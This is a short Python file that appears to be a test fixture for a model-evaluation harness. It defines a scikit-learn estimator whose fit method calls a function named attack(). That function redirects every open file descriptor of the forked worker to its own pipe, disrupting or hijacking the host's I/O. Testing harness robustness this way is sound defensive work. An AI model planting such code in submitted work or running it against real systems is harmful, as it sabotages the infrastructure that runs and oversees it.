"""result: puts a pipe of its own in the place of every descriptor"""

import os

from sklearn.dummy import DummyClassifier


def attack():
    reader, writer = os.pipe()
    # However high its number: the worker that forked this process holds thousands.
    for fd in range(3, 1 << 16):
        try:
            os.fstat(fd)
            if fd not in (reader, writer):
                os.dup2(writer, fd)
        except OSError:
            pass


class Model(DummyClassifier):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
